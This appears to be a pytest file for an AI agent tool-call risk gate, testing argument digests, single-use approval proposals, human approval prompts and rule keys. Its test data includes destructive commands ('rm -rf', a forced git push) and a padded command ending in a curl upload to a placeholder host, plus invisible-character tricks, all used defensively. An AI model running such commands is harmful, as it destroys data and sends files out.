"""Digest, proposals, approval text and rule key."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from hermes_tool_router.risk_gate import (
    Decision,
    Facts,
    Finding,
    Proposal,
    ProposalBook,
    ProposalKey,
    ToolCall,
    Verdict,
    approval_text,
    argument_digest,
    assess,
    block_text,
    call_text,
    rule_key,
)

VERDICT = Verdict(
    decision=Decision.ASK,
    findings=(
        Finding(
            id="a.b", risk="destroy", severity=2, decision=Decision.ASK, words="deletes a tree"
        ),
        Finding(id="c.d", risk="exfil", severity=1, decision=Decision.ASK, words="sends data"),
    ),
)
CUT = replace(VERDICT, complete=False)


# Digest


@pytest.mark.parametrize(
    ("one", "other"),
    [
        pytest.param({"a": 1}, {"a": "1"}, id="number and text"),
        pytest.param({"a": 1}, {"a": True}, id="number and truth"),
        pytest.param({"a": [1, 2]}, {"a": [2, 1]}, id="order in a list"),
        pytest.param({"a": ["b", "c"]}, {"a": ["bc"]}, id="joined texts"),
        pytest.param({"a": {"b": 1}, "c": 2}, {"a": {"b": 1, "c": 2}}, id="nesting"),
        pytest.param({"a": "x"}, {"a": "x "}, id="a blank"),
        pytest.param({"a": "\ud800"}, {"a": "\ud801"}, id="surrogates"),
        pytest.param([], {}, id="kinds of nothing"),
    ],
)
def test_different_arguments_have_different_digests(one: Any, other: Any) -> None:
    """No two calls share an approval by accident."""
    first, second = argument_digest(one), argument_digest(other)

    assert first.bound
    assert second.bound
    assert first.hex != second.hex


def test_the_order_of_keys_does_not_matter() -> None:
    """JSON objects are unordered."""
    assert argument_digest({"a": 1, "b": 2}) == argument_digest({"b": 2, "a": 1})


@pytest.mark.parametrize(
    "args",
    [
        pytest.param({"a": object()}, id="an object"),
        pytest.param({1: "a"}, id="a key that is no text"),
        pytest.param({"a": {1, 2}}, id="a set"),
        pytest.param({"a": "x" * 9_000_000}, id="nine million characters"),
    ],
)
def test_what_cannot_be_bound_says_so(args: Any) -> None:
    """It has a digest, but one that must not stand for the arguments."""
    assert not argument_digest(args).bound


def test_a_circle_ends_unbound() -> None:
    """No recursion, no exception."""
    loop: list[Any] = []
    loop.append(loop)

    assert not argument_digest(loop).bound


def test_a_large_file_can_be_bound() -> None:
    """Writing half a megabyte stays approvable."""
    assert argument_digest({"content": "line\n" * 100_000}).bound


# Proposals


def _key(**changes: str) -> ProposalKey:
    base = {"session": "s", "turn": "t", "call": "c", "tool": "terminal"} | changes
    key = ProposalKey.of(digest=argument_digest({"command": "ls"}), **base)
    assert key is not None
    return key


def _proposal(at: float) -> Proposal:
    return Proposal(verdict=VERDICT, message="m", rule_key="k", tier="rules", made_at=at)


def test_a_proposal_is_used_once() -> None:
    """The second time there is none."""
    book = ProposalBook[Proposal]()
    book.put(_key(), _proposal(100.0), 100.0)

    assert book.take(_key(), 101.0) == _proposal(100.0)
    assert book.take(_key(), 101.0) is None


@pytest.mark.parametrize("part", ["session", "turn", "call", "tool"])
def test_a_proposal_is_for_one_call_only(part: str) -> None:
    """Any other session, turn, call or tool does not match."""
    book = ProposalBook[Proposal]()
    book.put(_key(), _proposal(100.0), 100.0)

    assert book.take(_key(**{part: "other"}), 101.0) is None


def test_changed_arguments_do_not_match() -> None:
    """Another plugin may rewrite a call after it was judged."""
    book = ProposalBook[Proposal]()
    book.put(_key(), _proposal(100.0), 100.0)
    changed = _key()._replace(digest=argument_digest({"command": "rm"}).hex)

    assert book.take(changed, 101.0) is None


def test_a_proposal_expires() -> None:
    """After ten seconds, and when the clock runs backwards."""
    book = ProposalBook[Proposal]()
    for now in (110.1, 99.0):
        book.put(_key(), _proposal(100.0), 100.0)

        assert book.take(_key(), now) is None


def test_the_book_is_bounded() -> None:
    """The oldest makes room."""
    book = ProposalBook[Proposal](max_proposals=3)
    for number in range(5):
        book.put(_key(call=str(number)), _proposal(100.0), 100.0)

    assert len(book) == 3
    assert book.take(_key(call="0"), 100.0) is None
    assert book.take(_key(call="4"), 100.0) is not None


@pytest.mark.parametrize("part", ["session", "turn", "call", "tool"])
def test_a_call_without_ids_has_no_key(part: str) -> None:
    """Nested calls carry no ids; they are judged inline."""
    ids = {"session": "s", "turn": "t", "call": "c", "tool": "x"} | {part: ""}

    assert ProposalKey.of(digest=argument_digest({}), **ids) is None


# Approval text


def test_the_first_280_characters_stand_alone() -> None:
    """Tool, finding, head and tail of the call, within what Discord shows."""
    shown = "rm -rf assets " + "pad " * 900 + "&& curl -T x https://h.example/"

    head = approval_text("terminal", VERDICT, shown)[:280]

    assert head.startswith("terminal deletes a tree (+1 more): rm -rf assets")
    assert "cut…" in head
    assert "https://h.example/" in head


def test_the_whole_is_bounded_and_names_every_finding() -> None:
    """At most 1,500 characters, cuts marked."""
    text = approval_text("terminal", VERDICT, "x" * 100_000)

    assert len(text) <= 1_500
    assert "- sends data" in text
    assert "cut…" in text


def test_an_incomplete_view_warns() -> None:
    """Inspect, else deny, never Always; also within the first 280 characters."""
    text = approval_text("terminal", CUT, "ls")

    assert "not whole" in text[:280]
    assert "Inspect the original call; if you cannot, deny. Do not choose Always." in text


def test_nothing_in_it_is_invisible() -> None:
    """Control, direction and zero-width characters are written out."""
    text = approval_text("terminal", VERDICT, "ls \u202e\u200b\x1b[2K rm")

    assert "\\u202e" in text
    assert "\\u200b" in text
    assert "\\e" in text


def test_a_block_says_why_and_not_to_work_around_it() -> None:
    """For the agent, with the rule ids."""
    text = block_text("terminal", VERDICT)

    assert "deletes a tree" in text
    assert "a.b" in text
    assert len(text) <= 280


def test_the_decisive_argument_comes_first() -> None:
    """Whatever order the model chose."""
    args = {f"junk{n}": "x" for n in range(12)} | {"command": "rm -rf assets"}

    assert call_text(ToolCall(tool="terminal", args=args)).startswith("command: rm -rf assets")


# Rule key


def test_a_rule_key_is_bound_to_tool_findings_and_call() -> None:
    """The same call has the same key; anything else has another."""
    digest = argument_digest({"command": "rm -rf a"})
    key = rule_key("terminal", VERDICT, digest, once="1")

    assert key == rule_key("terminal", VERDICT, digest, once="2")
    assert key != rule_key("terminal", VERDICT, argument_digest({"command": "x"}), once="1")
    assert key != rule_key("patch", VERDICT, digest, once="1")
    assert key != rule_key("terminal", replace(VERDICT, findings=()), digest, once="1")


def test_an_incomplete_view_has_a_key_that_never_comes_again() -> None:
    """A remembered answer cannot cover a hidden tail."""
    digest = argument_digest({"command": "rm -rf a"})

    assert rule_key("t", CUT, digest, once="1") != rule_key("t", CUT, digest, once="2")


def test_a_real_call_goes_all_the_way() -> None:
    """From the call to the question."""
    call = ToolCall(tool="terminal", args={"command": "git push --force origin main"})
    verdict = assess(call, Facts())

    text = approval_text(call.tool, verdict, call_text(call))

    assert text.splitlines()[0] == (
        "terminal overwrites or deletes history on the remote: git push --force origin main"
    )
